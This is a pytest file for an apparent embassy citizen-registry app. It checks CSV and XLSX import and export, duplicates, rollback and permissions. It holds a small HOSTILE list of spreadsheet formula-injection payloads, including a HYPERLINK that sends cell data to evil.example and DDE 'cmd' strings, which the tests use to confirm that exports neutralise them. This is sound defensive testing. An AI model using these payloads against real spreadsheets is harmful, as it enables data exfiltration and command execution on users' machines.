"""Import and export through the services on real encrypted workstations."""

from __future__ import annotations

import json
import multiprocessing
from collections.abc import Callable
from pathlib import Path

import pytest

from embassy_desk.demo.generator import DemoSettings, synthetic_rows
from embassy_desk.domain.enums import Role
from embassy_desk.services import exporter, importer, registry
from embassy_desk.services.session import Session
from embassy_desk.services.workstation import init_workstation, unlock
from embassy_desk.storage.kdf import TEST_KDF
from tests.conftest import ADMIN_PASSPHRASE, POST


def _rows(n: int, seed: int = 3) -> list[tuple[int, dict[str, str]]]:
    return [(i + 2, row) for i, row in enumerate(synthetic_rows(DemoSettings(n, seed)))]


def _counts(session: Session) -> tuple[int, int, int]:
    with session.read() as conn:
        return (
            int(conn.exec_driver_sql("SELECT count(*) FROM citizens").scalar_one()),
            int(conn.exec_driver_sql("SELECT count(*) FROM change_log").scalar_one()),
            int(conn.exec_driver_sql("SELECT count(*) FROM audit_log").scalar_one()),
        )


@pytest.mark.parametrize("parallel", [False, True])
def test_import_stores_rows_changes_and_one_audit_entry(admin: Session, parallel: bool) -> None:
    before = _counts(admin)
    report = importer.import_rows(admin, _rows(300), parallel=parallel)
    assert report.rejected == []
    assert report.imported == 300
    citizens, changes, audits = _counts(admin)
    assert citizens == 300
    assert changes - before[1] >= 300
    assert audits > before[2]
    sample = registry.search(admin, "a", limit=1)
    assert sample


def test_parallel_and_sequential_agree(admin: Session) -> None:
    rows = _rows(120)
    seq = importer.import_rows(admin, rows, parallel=False, dry_run=True)
    par = importer.import_rows(admin, rows, parallel=True, dry_run=True)
    assert (seq.imported, seq.rejected) == (par.imported, par.rejected)


def test_dry_run_changes_nothing(admin: Session) -> None:
    before = _counts(admin)
    report = importer.import_rows(admin, _rows(50), dry_run=True)
    assert report.imported == 50
    assert _counts(admin) == before


def test_duplicates_within_the_file_and_against_the_registry(admin: Session) -> None:
    rows = _rows(20)
    importer.import_rows(admin, rows[:10])
    again = [*rows[5:15], (99, dict(rows[12][1]))]
    report = importer.import_rows(admin, again)
    reasons = {r.row: r.reason for r in report.rejected}
    assert set(reasons) == {7, 8, 9, 10, 11, 99}
    assert "possible duplicate" in reasons[7]
    assert "row 14" in reasons[99]
    assert report.imported == 5


def test_invalid_rows_are_reported_by_number_and_valid_ones_land(admin: Session) -> None:
    rows = _rows(5)
    rows[1][1]["birth_date"] = "31.02.1990"
    rows[3][1]["phone"] = "12"
    report = importer.import_rows(admin, rows)
    assert [r.row for r in report.rejected] == [3, 5]
    assert "birth_date" in report.rejected[0].reason
    assert "phone" in report.rejected[1].reason
    assert report.imported == 3


def test_nothing_is_half_imported_when_the_import_fails(admin: Session) -> None:
    before = _counts(admin)

    def explode(done: int) -> None:
        raise RuntimeError("power cut")

    with pytest.raises(RuntimeError):
        importer.import_rows(admin, _rows(importer.CHUNK + 10), progress=explode)
    assert _counts(admin) == before


def test_household_members_share_an_id_that_reaches_the_change_log(admin: Session) -> None:
    rows = [r for r in _rows(400) if r[1].get("household")][:6]
    importer.import_rows(admin, rows)
    with admin.read() as conn:
        payloads = [
            json.loads(p)
            for (p,) in conn.exec_driver_sql("SELECT fields FROM change_log WHERE entity = 'citizen'")
        ]
        households = {
            h
            for (h,) in conn.exec_driver_sql(
                "SELECT household_id FROM citizens WHERE household_id IS NOT NULL"
            )
        }
    assert households
    assert all(p.get("household_id") in households for p in payloads)


@pytest.mark.parametrize("parallel", [False, True])
def test_refused_rows_leave_every_imported_citizen_findable(admin: Session, parallel: bool) -> None:
    # Row ids are handed out by position in the file, so refused rows leave gaps: the full-text
    # index must still point at the right person for every row that landed.
    rows = _rows(importer.CHUNK + 300)
    rows[2][1]["birth_date"] = "31.02.1990"
    rows[importer.CHUNK + 5][1]["phone"] = "12"
    rows.append((99_999, dict(rows[10][1])))
    report = importer.import_rows(admin, rows, parallel=parallel)
    assert [r.row for r in report.rejected] == [4, importer.CHUNK + 7, 99_999]
    assert report.imported == len(rows) - 3
    with admin.read() as conn:
        stored = conn.exec_driver_sql("SELECT id, passport_number FROM citizens").all()
    assert len(stored) == report.imported
    for citizen_id, passport in stored[:: max(1, len(stored) // 40)]:
        assert [c.id for c in registry.search(admin, passport)] == [citizen_id]


def test_a_cancelled_parallel_import_stops_its_worker_processes(admin: Session) -> None:
    before = _counts(admin)

    def cancel(done: int) -> None:
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt) as caught:
        importer.import_rows(admin, _rows(importer.CHUNK * 3), parallel=True, progress=cancel)
    assert caught.value.__traceback__ is not None  # still held, as a GUI error handler would
    assert multiprocessing.active_children() == []
    assert _counts(admin) == before


def test_a_failing_write_leaves_nothing_behind(admin: Session, monkeypatch: pytest.MonkeyPatch) -> None:
    before = _counts(admin)
    real_insert = importer.citizens.insert_rows
    calls: list[int] = []

    def disk_full(*args: object, **kwargs: object) -> None:
        calls.append(1)
        if len(calls) == 2:
            raise OSError("database or disk is full")
        real_insert(*args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(importer.citizens, "insert_rows", disk_full)
    with pytest.raises(OSError, match="disk is full"):
        importer.import_rows(admin, _rows(importer.CHUNK * 3), parallel=False)
    assert _counts(admin) == before


def test_households_over_several_chunks_are_made_once(admin: Session) -> None:
    rows = _rows(importer.CHUNK * 2 + 100)
    labels = {r[1]["household"] for r in rows if r[1].get("household")}
    importer.import_rows(admin, rows, parallel=False)
    with admin.read() as conn:
        made = conn.exec_driver_sql("SELECT name, id FROM households").all()
        announced = conn.exec_driver_sql(
            "SELECT count(*) FROM change_log WHERE entity = 'household'"
        ).scalar()
        members = conn.exec_driver_sql(
            "SELECT count(DISTINCT household_id) FROM citizens WHERE household_id IS NOT NULL"
        ).scalar()
    assert sorted(name for name, _ in made) == sorted(labels)
    assert announced == len(labels) == members


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_export_then_import_into_another_workstation(admin: Session, tmp_path: Path, suffix: str) -> None:
    importer.import_rows(admin, _rows(60))
    target = tmp_path / f"registry{suffix}"
    assert exporter.export_citizens(admin, target) == 60
    other = init_workstation(
        tmp_path / "other",
        post=POST,
        admin_username="admin",
        admin_display_name="A",
        passphrase=ADMIN_PASSPHRASE,
        kdf=TEST_KDF,
    )
    session = unlock(other.paths, "admin", ADMIN_PASSPHRASE)
    try:
        report = importer.import_file(session, target)
        assert report.rejected == []
        assert report.imported == 60
        first = registry.search(admin, "", limit=1)
        assert first == []
        original = registry.search(admin, _rows(1)[0][1]["passport_number"])[0]
        copy = registry.search(session, original.fields["passport_number"])[0]
        for key in ("surname", "given_names", "birth_date", "national_id", "phones", "region"):
            assert copy.fields[key] == original.fields[key], key
    finally:
        session.lock()


def test_export_needs_an_officer(session_for: Callable[[Role], Session], tmp_path: Path) -> None:
    from embassy_desk.domain.errors import PermissionDeniedError

    with pytest.raises(PermissionDeniedError):
        exporter.export_citizens(session_for(Role.CLERK), tmp_path / "x.csv")
    assert not (tmp_path / "x.csv").exists()


def test_xlsx_export_leaves_no_temporary_copy(
    admin: Session, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """openpyxl spills rows to temp files; they must stay in a private folder that is removed."""
    import tempfile

    # A system temp folder of the test's own: other processes on the machine come and go in /tmp.
    system_temp = tmp_path / "system-temp"
    system_temp.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(system_temp))
    importer.import_rows(admin, _rows(30))
    exporter.export_citizens(admin, tmp_path / "out.xlsx")
    assert list(system_temp.iterdir()) == []


HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A2,"click")',
    "+cmd|'/c calc'!A1",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
)


def test_csv_export_neutralises_formulas_and_reimports_them_as_typed(admin: Session, tmp_path: Path) -> None:
    import csv

    from tests.conftest import aigerim

    made = [
        registry.register_citizen(
            admin,
            aigerim(
                notes=text,
                address=text,
                passport_number=f"N1234567{i}",
                national_id=None,
                birth_date=f"199{i}-03-14",
            ),
        )
        for i, text in enumerate(HOSTILE)
    ]
    target = tmp_path / "out.csv"
    exporter.export_citizens(admin, target)
    with target.open(encoding="utf-8-sig", newline="") as handle:
        exported = list(csv.DictReader(handle))
    for row in exported:
        for column, value in row.items():
            assert not value.startswith(exporter.FORMULA_TRIGGERS) or value.startswith("+82"), (column, value)
    assert {row["notes"] for row in exported} == {"'" + text for text in HOSTILE}
    assert all(row["phone"].startswith("+8210") for row in exported)  # numbers stay numbers
    other = init_workstation(
        tmp_path / "other",
        post=POST,
        admin_username="admin",
        admin_display_name="A",
        passphrase=ADMIN_PASSPHRASE,
        kdf=TEST_KDF,
    )
    session = unlock(other.paths, "admin", ADMIN_PASSPHRASE)
    try:
        assert importer.import_file(session, target).imported == len(made)
        for original in made:
            copy = registry.search(session, original.fields["passport_number"])[0]
            assert copy.fields["notes"] == original.fields["notes"]
    finally:
        session.lock()


def test_xlsx_export_writes_formula_like_values_as_text_cells(admin: Session, tmp_path: Path) -> None:
    import zipfile

    from openpyxl import load_workbook

    from tests.conftest import aigerim

    for i, text in enumerate((*HOSTILE, "#N/A")):
        registry.register_citizen(
            admin,
            aigerim(notes=text, passport_number=f"N1234567{i}", national_id=None, birth_date=f"199{i}-03-14"),
        )
    target = tmp_path / "out.xlsx"
    exporter.export_citizens(admin, target)
    with zipfile.ZipFile(target) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        xml = b"".join(archive.read(n) for n in sheets)
    assert b"<f>" not in xml and b"<f " not in xml
    assert b't="e"' not in xml
    sheet = load_workbook(target).active
    assert sheet is not None
    header = [c.value for c in sheet[1]]
    notes = {row[header.index("notes")] for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert notes == {*HOSTILE, "#N/A"}


# --------------------------------------------------------------------------- rejected rows (issue 9, 14)


def _write_source(path: Path, rows: list[tuple[int, dict[str, str]]]) -> tuple[list[str], list[list[str]]]:
    import csv

    header = sorted({key for _, row in rows for key in row})
    cells = [[row.get(column, "") for column in header] for _, row in rows]
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(header)
        writer.writerows(cells)
    return header, cells


def _read_csv(path: Path) -> list[list[str]]:
    import csv

    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def test_good_rows_land_and_rejected_rows_go_to_a_private_csv_that_can_be_corrected(
    admin: Session, tmp_path: Path
) -> None:
    import stat

    rows = _rows(30, seed=41)
    born = rows[2][1]["birth_date"]
    rows[2][1]["birth_date"] = "31.02.1990"
    rows[6][1]["surname"] = "Иванов2"
    rows[6][1]["notes"] = "=1+2"
    source = tmp_path / "people.csv"
    header, cells = _write_source(source, rows)
    report = importer.import_file(admin, source)
    assert report.imported == 28
    assert [r.row for r in report.rejected] == [4, 8]
    assert report.rejects_file == importer.rejects_path(source) == tmp_path / "people.rejected.csv"
    assert stat.S_IMODE(report.rejects_file.stat().st_mode) == 0o600  # it holds personal data
    written = _read_csv(report.rejects_file)
    assert written[0] == [*header, "reason"]
    assert [line[:-1] for line in written[1:]] == [
        cells[2],
        [("'" + c if c == "=1+2" else c) for c in cells[6]],
    ]
    assert "birth_date" in written[1][-1] and "digits" in written[2][-1]
    assert _counts(admin)[0] == 28

    # Correct the two rows in the rejects file and import that file.
    fixed = [written[0]]
    for line in written[1:]:
        line = [born if c == "31.02.1990" else "Иванов" if c == "Иванов2" else c for c in line]
        fixed.append(line)
    import csv

    with report.rejects_file.open("w", encoding="utf-8-sig", newline="") as handle:
        csv.writer(handle).writerows(fixed)
    again = importer.import_file(admin, report.rejects_file)
    assert (again.imported, again.rejected, again.rejects_file) == (2, [], None), again.rejected
    assert "reason" in again.unmapped
    assert _counts(admin)[0] == 30
    with admin.read() as conn:
        notes = conn.exec_driver_sql("SELECT notes FROM citizens WHERE notes IS NOT NULL").scalars().all()
    assert "=1+2" in notes  # the export-style quote came off again

    # The whole file once more: nobody is stored twice.
    whole = importer.import_file(admin, source)
    assert whole.imported == 0
    assert len(whole.rejected) == 30
    # The rows imported before are refused as already registered; the two wrong rows as before.
    assert sum("possible duplicate" in r.reason for r in whole.rejected) == 28
    assert _counts(admin)[0] == 30


def test_all_or_nothing_stores_nothing_when_one_row_is_rejected(admin: Session, tmp_path: Path) -> None:
    rows = _rows(20, seed=43)
    rows[5][1]["phone"] = "12"
    source = tmp_path / "strict.csv"
    _write_source(source, rows)
    before = _counts(admin)
    report = importer.import_file(admin, source, all_or_nothing=True)
    assert report.rolled_back and report.imported == 0 and report.held_back == 19
    assert [r.row for r in report.rejected] == [7]
    assert _counts(admin) == before  # no citizen, change-log entry or audit entry
    assert report.rejects_file is not None and len(_read_csv(report.rejects_file)) == 2
    del rows[5]
    _write_source(source, rows)
    report = importer.import_file(admin, source, all_or_nothing=True)
    assert (report.rolled_back, report.imported) == (False, 19)


def test_rejected_rows_of_a_workbook_are_written_as_they_were(admin: Session, tmp_path: Path) -> None:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["Список граждан"])
    sheet.append(["Фамилия", "Имя", "ИИН", "Дата рождения"])
    sheet.append(["Абаев", "Ерлан", "900101300027", "01.01.1990"])
    sheet.append(["Абаев", "Ерлан7", 101300029, "01.01.1900"])  # a numeric IIN lost its 0s
    path = tmp_path / "book.xlsx"
    book.save(path)
    report = importer.import_file(admin, path, language="ru")
    assert [r.row for r in report.rejected] == [4]
    assert report.rejects_file is not None
    written = _read_csv(report.rejects_file)
    assert written[0] == ["Фамилия", "Имя", "ИИН", "Дата рождения", "reason"]
    assert written[1][:4] == ["Абаев", "Ерлан7", "000101300029", "01.01.1900"]
    assert "цифры" in written[1][4]  # the reason in the language asked for
